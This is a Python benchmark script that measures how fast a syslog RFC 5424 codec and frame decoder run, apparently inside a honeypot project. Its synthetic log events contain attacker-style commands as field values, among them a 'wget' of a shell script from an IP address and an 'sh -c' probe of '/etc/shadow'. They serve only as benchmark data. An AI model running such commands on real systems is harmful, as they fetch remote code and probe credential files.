"""How fast the syslog codec and the framing are, in one process on one core.

    python bench/codec.py [--secs 2.0]

Prints one JSON object as its last line. Every figure is the best of `ROUNDS` rounds, since noise only ever slows down.
`limit` is the same work done without any check (a split and a dict for decoding, an f-string for encoding, a
walk over known lengths for framing): the ceiling of plain Python on this machine in this very run.
"""

from __future__ import annotations

import argparse
import json
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from decnet_core.syslog.framing import FrameDecoder, encode_frames
from decnet_core.syslog.rfc5424 import SyslogMessage, decode, encode

LINES = 4_000
ROUNDS = 20
BLOCK_BYTES = 256 * 1024


def main() -> None:
    """Measure and print."""
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    arguments.add_argument("--secs", type=float, default=2.0, help="time for each figure")
    secs = arguments.parse_args().secs

    messages = [typical(number) for number in range(LINES)]
    lines = [encode(message) for message in messages]
    quoted = [encode(typical(number, command='sh -c "id; [ -r /etc/shadow ]"')) for number in range(LINES)]
    spilled = [encode(typical(number, command="printf 'a\tb\x1b[0m'")) for number in range(LINES)]
    stream = encode_frames(lines)
    blocks = [stream[at : at + BLOCK_BYTES] for at in range(0, len(stream), BLOCK_BYTES)]
    lengths = [len(line) for line in lines]
    stream_mib = len(stream) / 2**20

    result = {
        "line_bytes": round(sum(lengths) / LINES),
        "decode_lines_per_s": rate(secs, LINES, lambda: [decode(line) for line in lines]),
        "decode_quoted_lines_per_s": rate(secs, LINES, lambda: [decode(line) for line in quoted]),
        "decode_spilled_lines_per_s": rate(secs, LINES, lambda: [decode(line) for line in spilled]),
        "encode_lines_per_s": rate(secs, LINES, lambda: [encode(message) for message in messages]),
        "framing_mib_per_s": rate(secs, stream_mib, lambda: unframe(blocks)),
        "limit": {
            "decode_lines_per_s": rate(secs, LINES, lambda: [bare_decode(line) for line in lines]),
            "encode_lines_per_s": rate(secs, LINES, lambda: [bare_encode(message) for message in messages]),
            "framing_mib_per_s": rate(secs, stream_mib, lambda: bare_unframe(stream, lengths)),
        },
    }
    print(json.dumps(result))


def typical(number: int, command: str = "wget -q http://198.51.100.9/x.sh") -> SyslogMessage:
    """Make an event as the agent would: some 350 bytes, no two alike."""
    return SyslogMessage(
        facility=20,
        severity=5,
        at=datetime(2026, 11, 23, 16, 0, tzinfo=UTC) + timedelta(milliseconds=number),
        host=f"web-{number % 7:02}",
        app="ssh",
        procid=str(1000 + number),
        msgid="command.run",
        params={
            "id": f"{number:032x}",
            "source": "tap/5f3c0de1",
            "cursor": f"{number}.0",
            "trust": "sensor",
            "src_ip": f"192.0.2.{number % 250}",
            "src_port": str(40000 + number % 20000),
            "session": f"{number % 97:016x}",
            "user": "root",
            "command": command,
        },
        message="a command was run in an interactive shell of a decky",
    )


def rate(secs: float, work: float, run: Callable[[], object]) -> int:
    """Return units of work per second, the best round's."""
    run()
    best = 0.0
    for _ in range(ROUNDS):
        done, began = 0.0, time.perf_counter()
        while (took := time.perf_counter() - began) < secs / ROUNDS:
            run()
            done += work
        best = max(best, done / took)
    return round(best)


def unframe(blocks: list[bytes]) -> int:
    """Run one connection's worth of blocks through a decoder."""
    decoder = FrameDecoder(1 << 20)
    return sum(len(decoder.feed(block)) for block in blocks)


def bare_decode(line: bytes) -> tuple[list[str], dict[str, str], str]:
    """Do the least that decoding is: split, cut the parameters, make a dict."""
    header = line.decode().split(" ", 6)
    body, _, tail = header[6].partition('"]')
    pieces = body.split('"')
    return header, dict(zip(pieces[::2], pieces[1::2], strict=True)), tail


def bare_encode(message: SyslogMessage) -> bytes:
    """Do the least that encoding is: join and encode."""
    params = "".join([f' {name}="{value}"' for name, value in message.params.items()])
    at = message.at.isoformat() if message.at else "-"
    slots = f"{message.host} {message.app} {message.procid} {message.msgid}"
    return f"<165>1 {at} {slots} [relay@55555{params}] {message.message}".encode()


def bare_unframe(stream: bytes, lengths: list[int]) -> list[bytes]:
    """Do the least that framing is: slice at lengths that are known (all have three digits)."""
    payloads, at = [], 4
    for length in lengths:
        payloads.append(stream[at : at + length])
        at += length + 4
    return payloads


if __name__ == "__main__":
    main()
